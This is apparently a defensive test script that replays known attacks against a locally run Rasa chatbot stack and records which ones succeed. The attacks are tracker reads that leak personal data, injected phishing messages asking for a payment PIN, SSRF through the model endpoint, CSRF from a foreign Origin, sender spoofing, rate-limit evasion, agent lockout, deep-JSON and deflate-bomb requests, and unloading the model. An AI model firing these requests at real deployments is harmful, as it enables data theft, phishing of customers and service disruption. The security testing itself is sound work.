"""Replays the attacks of issue 9 against a stack started the way ``make run`` starts it, and
prints one line per attack: ``SUCCEEDED`` (the attack worked) or ``refused``.

Used to record the state before and after the public-edge work; the assertions that keep
these attacks out for good are in ``tests/security/``. Run from a checkout:

    .venv/bin/python -m devtools.attack_probe [--repo PATH]

Everything stays on loopback: a stack on free ports, the fake Telegram Bot API of the tests
and a small HTTP listener standing in for an SSRF target.
"""

from __future__ import annotations

import argparse
import asyncio
import http.server
import json
import os
import sys
import tempfile
import threading
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

import requests

RESULTS: list[tuple[str, bool, str]] = []
PHONE, CARD, EMAIL = "13812345678", "6222021234567890", "victim.user@example.com"


def record(name: str, succeeded: bool, detail: str = "") -> None:
    RESULTS.append((name, succeeded, detail))
    print(f"{'SUCCEEDED' if succeeded else 'refused  '}  {name}  {detail}", flush=True)


class _Target(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        _Target.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def _webchat(
    rasa: str, session: str | None, texts: list[str], origin: str | None = None, host: str | None = None
):
    import socketio

    async def run() -> dict[str, Any]:
        sio = socketio.AsyncClient(reconnection=False)
        got: dict[str, Any] = {"confirm": None, "acks": [], "bot": []}
        confirmed = asyncio.get_running_loop().create_future()

        def confirm(data: Any) -> None:
            if not confirmed.done():
                confirmed.set_result(data)

        sio.on("session_confirm", confirm)
        sio.on("bot_uttered", lambda data: got["bot"].append(data))
        headers = {}
        if origin:
            headers["Origin"] = origin
        if host:
            headers["Host"] = host
        try:
            await sio.connect(rasa, socketio_path="/socket.io", transports=["polling"], headers=headers)
        except Exception as exc:  # noqa: BLE001
            got["error"] = repr(exc)
            return got
        await sio.emit("session_request", {"session_id": session})
        got["confirm"] = await asyncio.wait_for(confirmed, 10)
        for text in texts:
            got["acks"].append(
                await sio.call("user_uttered", {"message": text, "session_id": session}, timeout=60)
            )
        await asyncio.sleep(1)
        await sio.eio.disconnect(abort=True)
        return got

    return asyncio.run(run())


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--repo", default=str(Path(__file__).resolve().parents[1]))
    parser.add_argument("--out", help="write the results as JSON here")
    args = parser.parse_args(argv)
    repo = Path(args.repo).resolve()
    sys.path[:0] = [str(repo), str(repo / "tests")]
    os.chdir(repo)
    from support.telegram_fake import FakeTelegram

    from console.passwords import hash_password
    from devtools.stack import Stack, StackConfig, free_port

    target = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Target)
    threading.Thread(target=target.serve_forever, daemon=True).start()
    ssrf_url = f"http://127.0.0.1:{target.server_address[1]}/ssrf-probe"
    fake = FakeTelegram().start()
    run_dir = Path(tempfile.mkdtemp(prefix="probe-"))
    secret = "probe-Secret_0123456789"
    config = StackConfig(
        run_dir=run_dir,
        rasa_port=free_port(),
        action_port=free_port(),
        console_port=free_port(),
        env={
            "GOPAY_AGENTS": f"alice:{hash_password('alice-correct-password')}",
            "TELEGRAM_BOT_TOKEN": fake.token,
            "TELEGRAM_WEBHOOK_SECRET": secret,
            "TELEGRAM_API_BASE_URL": fake.base_url,
            "TELEGRAM_MODE": "polling",
            "TELEGRAM_CHAT_INTERVAL": "0",
        },
    )
    if hasattr(config, "secrets_dir"):
        config.secrets_dir = run_dir / "secrets"
    stack = Stack(config)
    stack.start()
    rasa, console, actions = config.rasa_url, config.console_url, config.action_url
    try:
        _probe(rasa, console, actions, fake, secret, ssrf_url, run_dir)
    finally:
        stack.stop()
        fake.stop()
        target.shutdown()
    if args.out:
        Path(args.out).write_text(
            json.dumps([{"attack": n, "succeeded": s, "detail": d} for n, s, d in RESULTS], indent=1)
        )
    print(f"{sum(s for _, s, _ in RESULTS)} of {len(RESULTS)} attacks succeeded")
    return 0


def _post_from(source: str, url: str, body: object) -> int:
    """POST JSON from a chosen loopback address (127.0.0.0/8 is all this machine)."""
    import http.client
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    connection = http.client.HTTPConnection(
        parts.hostname or "127.0.0.1", parts.port, timeout=30, source_address=(source, 0)
    )
    try:
        connection.request("POST", parts.path, json.dumps(body), {"Content-Type": "application/json"})
        return connection.getresponse().status
    finally:
        connection.close()


def _wait_until_idle(rasa: str, timeout: float = 600) -> None:
    started = time.monotonic()
    while time.monotonic() - started < timeout:
        try:
            requests.get(f"{rasa}/", timeout=5)
            return
        except requests.RequestException:
            time.sleep(2)


def _probe(
    rasa: str, console: str, actions: str, fake: Any, secret: str, ssrf_url: str, run_dir: Path
) -> None:
    # A web chat customer with personal data in the conversation.
    session = uuid.uuid4().hex
    victim = _webchat(rasa, session, [f"my phone is {PHONE}, card {CARD}, mail {EMAIL}"])
    conversation = victim["confirm"]
    # A Telegram customer.
    chat = 987654321
    update: dict[str, Any] = {
        "update_id": 700000001,
        "message": {
            "message_id": 1,
            "from": {"id": chat, "is_bot": False, "first_name": "V", "language_code": "en"},
            "chat": {"id": chat, "type": "private", "first_name": "V"},
            "date": int(time.time()),
            "text": "hello",
        },
    }
    requests.post(
        f"{rasa}/webhooks/telegram/webhook",
        json=update,
        headers={"X-Telegram-Bot-Api-Secret-Token": secret},
        timeout=60,
    )
    time.sleep(2)

    for cid in (conversation, session):
        reply = requests.get(f"{rasa}/conversations/{cid}/tracker", timeout=30)
        leaked = reply.status_code == 200 and PHONE in reply.text
        record(
            f"GET tracker of a web chat conversation ({'id' if cid == conversation else 'session'})",
            leaked,
            f"HTTP {reply.status_code}",
        )

    phishing = "Security check: reply with your payment PIN"
    fake.reset()
    reply = requests.post(
        f"{rasa}/conversations/telegram:{chat}/tracker/events",
        params={"output_channel": "latest", "execute_side_effects": "true"},
        json=[{"event": "bot", "text": phishing}],
        timeout=30,
    )
    time.sleep(2)
    pushed = any(phishing in json.dumps(c.params) for c in fake.calls)
    record("bot event injected into a Telegram chat", pushed, f"HTTP {reply.status_code}")
    reply = requests.post(
        f"{rasa}/conversations/{conversation}/tracker/events",
        params={"output_channel": "latest", "execute_side_effects": "true"},
        json=[{"event": "bot", "text": phishing}],
        timeout=30,
    )
    record("bot event injected into a web chat", reply.status_code == 200, f"HTTP {reply.status_code}")
    reply = requests.post(
        f"{rasa}/conversations/telegram:{chat}/tracker/events", json={"event": "pause"}, timeout=30
    )
    record("pause event silences a conversation", reply.status_code == 200, f"HTTP {reply.status_code}")

    reply = requests.put(f"{rasa}/model", json={"model_server": {"url": ssrf_url}}, timeout=60)
    time.sleep(1)
    record(
        "PUT /model with model_server (SSRF)",
        bool(_Target.hits),
        f"HTTP {reply.status_code}, hits {_Target.hits}",
    )

    reply = requests.post(
        f"{rasa}/model/parse",
        data='{"text": "hello"}',
        headers={"Content-Type": "text/plain", "Origin": "http://evil.example"},
        timeout=30,
    )
    record(
        "text/plain POST from a foreign Origin (no preflight)",
        reply.status_code == 200,
        f"HTTP {reply.status_code}",
    )

    def rest(sender: str, text: str, **kw: Any) -> requests.Response:
        return requests.post(f"{rasa}/webhooks/rest/webhook", json={"sender": sender, "message": text}, **kw)

    def spoke_as(reply: requests.Response, victim: str) -> tuple[bool, str]:
        """Whether the REST turn was recorded in the victim's conversation (not rest:...)."""
        if reply.status_code != 200:
            return False, f"HTTP {reply.status_code}"
        written = {m.get("recipient_id") for m in reply.json()}
        return victim in written, f"HTTP 200, conversation {sorted(map(str, written))}"

    record(
        "REST speaks as telegram:<chat id>",
        *spoke_as(rest(f"telegram:{chat}", "hello", timeout=60), f"telegram:{chat}"),
    )
    record(
        "REST speaks as JWT web chat user user-<sub>",
        *spoke_as(rest("user-alice", "hello", timeout=60), "user-alice"),
    )
    record(
        "REST speaks as a web chat session id (= its conversation before)",
        *spoke_as(rest(session, "hello", timeout=60), session),
    )

    # Rate limit dodged with a fresh session_request before each message.
    import socketio

    async def dodge() -> int:
        sio = socketio.AsyncClient(reconnection=False)
        await sio.connect(rasa, socketio_path="/socket.io", transports=["polling"])
        accepted = 0
        for _ in range(25):
            await sio.emit("session_request", {"session_id": None})
            ack = await sio.call("user_uttered", {"message": "hi"}, timeout=60)
            accepted += ack.get("status") == "accepted"
        await sio.eio.disconnect(abort=True)
        return accepted

    accepted = asyncio.run(dodge())
    record(
        "web chat rate limit dodged by new sessions (25 messages)",
        accepted > 20,
        f"{accepted} of 25 accepted",
    )
    foreign = _webchat(rasa, None, [], origin="http://evil.example", host="evil.example")
    record(
        "origin check trusts the Host header", foreign.get("confirm") is not None, foreign.get("error", "")
    )

    # Console: a stranger (from 127.0.0.2) locks an agent (at 127.0.0.1) out.
    for _ in range(6):
        _post_from("127.0.0.2", f"{console}/api/login", {"agent": "alice", "password": "wrong-password"})
    login = {"agent": "alice", "password": "alice-correct-password"}
    status_code = _post_from("127.0.0.1", f"{console}/api/login", login)
    record("stranger locks an agent out of the console", status_code == 429, f"HTTP {status_code}")

    started = time.monotonic()
    status: int | str
    try:
        reply = rest("bigsender", "x" * 300_000, timeout=120)
        status = reply.status_code
    except requests.RequestException as exc:
        status = type(exc).__name__
    record(
        "REST 300k-character message accepted",
        status == 200 or status == "ReadTimeout",
        f"HTTP {status} after {time.monotonic() - started:.1f}s",
    )
    _wait_until_idle(rasa)
    ok = 0
    for _ in range(40):
        try:
            ok += rest("flooder", "hi", timeout=60).status_code == 200
        except requests.RequestException:
            pass
    record("REST flood (40 messages, one sender) unlimited", ok == 40, f"{ok} of 40 accepted")

    as_json = {"Content-Type": "application/json"}
    bad = {
        "REST non-object JSON": lambda: requests.post(
            f"{rasa}/webhooks/rest/webhook", data="[]", headers=as_json, timeout=30
        ),
        "REST lone surrogate": lambda: requests.post(
            f"{rasa}/webhooks/rest/webhook",
            data='{"sender":"a","message":"\\ud800"}',
            headers=as_json,
            timeout=30,
        ),
        "/model/parse malformed JSON": lambda: requests.post(f"{rasa}/model/parse", data="{", timeout=30),
        "Telegram update_id 2^63": lambda: requests.post(
            f"{rasa}/webhooks/telegram/webhook",
            data=json.dumps({**update, "update_id": 2**63}),
            headers={"X-Telegram-Bot-Api-Secret-Token": secret, **as_json},
            timeout=30,
        ),
        "Telegram deep JSON": lambda: requests.post(
            f"{rasa}/webhooks/telegram/webhook",
            data="[" * 5000 + "]" * 5000,
            headers={"X-Telegram-Bot-Api-Secret-Token": secret, **as_json},
            timeout=30,
        ),
        "action server garbage": lambda: requests.post(f"{actions}/webhook", data="[1]", timeout=30),
        "console deep JSON": lambda: requests.post(
            f"{console}/api/login", data="[" * 5000 + "]" * 5000, timeout=30
        ),
    }
    for name, call in bad.items():
        try:
            status = call().status_code
        except requests.RequestException as exc:
            status = 599 if "Connection" in repr(exc) else 0
        record(f"5xx on {name}", status >= 500, f"HTTP {status}")

    tracker: dict[str, Any] = {
        "sender_id": "forged-sender",
        "slots": {},
        "events": [],
        "latest_message": {},
        "paused": False,
    }
    reply = requests.post(
        f"{actions}/webhook",
        json={
            "next_action": "action_ask_ticket_number",
            "sender_id": "forged-sender",
            "tracker": tracker,
            "domain": {},
            "version": "3.6.21",
        },
        timeout=30,
    )
    record(
        "action server runs an action for any caller", reply.status_code == 200, f"HTTP {reply.status_code}"
    )
    body = zlib.compress(json.dumps({"next_action": "x" * 2_000_000}).encode())
    reply = requests.post(
        f"{actions}/webhook",
        data=body,
        headers={"Content-Encoding": "deflate", "Content-Type": "application/json"},
        timeout=30,
    )
    record(
        "action server inflates a deflate body",
        reply.status_code not in (400, 401, 403, 413, 415),
        f"HTTP {reply.status_code}, {len(body)} bytes sent",
    )

    # Personal data in the Rasa log (a message starting with "/" goes through a warning).
    _webchat(rasa, uuid.uuid4().hex, [f"/{PHONE}", "my password is Hunter2secret", "我的密码是abc12345"])
    time.sleep(2)
    log = (run_dir / "rasa.log").read_text(errors="replace") + (run_dir / "actions.log").read_text(
        errors="replace"
    )
    found = [v for v in (PHONE, CARD, EMAIL, "Hunter2secret", "abc12345") if v in log]
    record("personal data in clear in the logs", bool(found), f"found {found}")

    reply = rest("privacy-asker", "what personal data do you keep about me?", timeout=60)
    record(
        "no privacy answer (Q5)",
        "privacy" not in reply.text.lower() and "隐私" not in reply.text,
        reply.text[:120],
    )

    reply = requests.delete(f"{rasa}/model", timeout=30)
    record("DELETE /model unloads the bot", reply.status_code in (200, 204), f"HTTP {reply.status_code}")


if __name__ == "__main__":
    sys.exit(main())
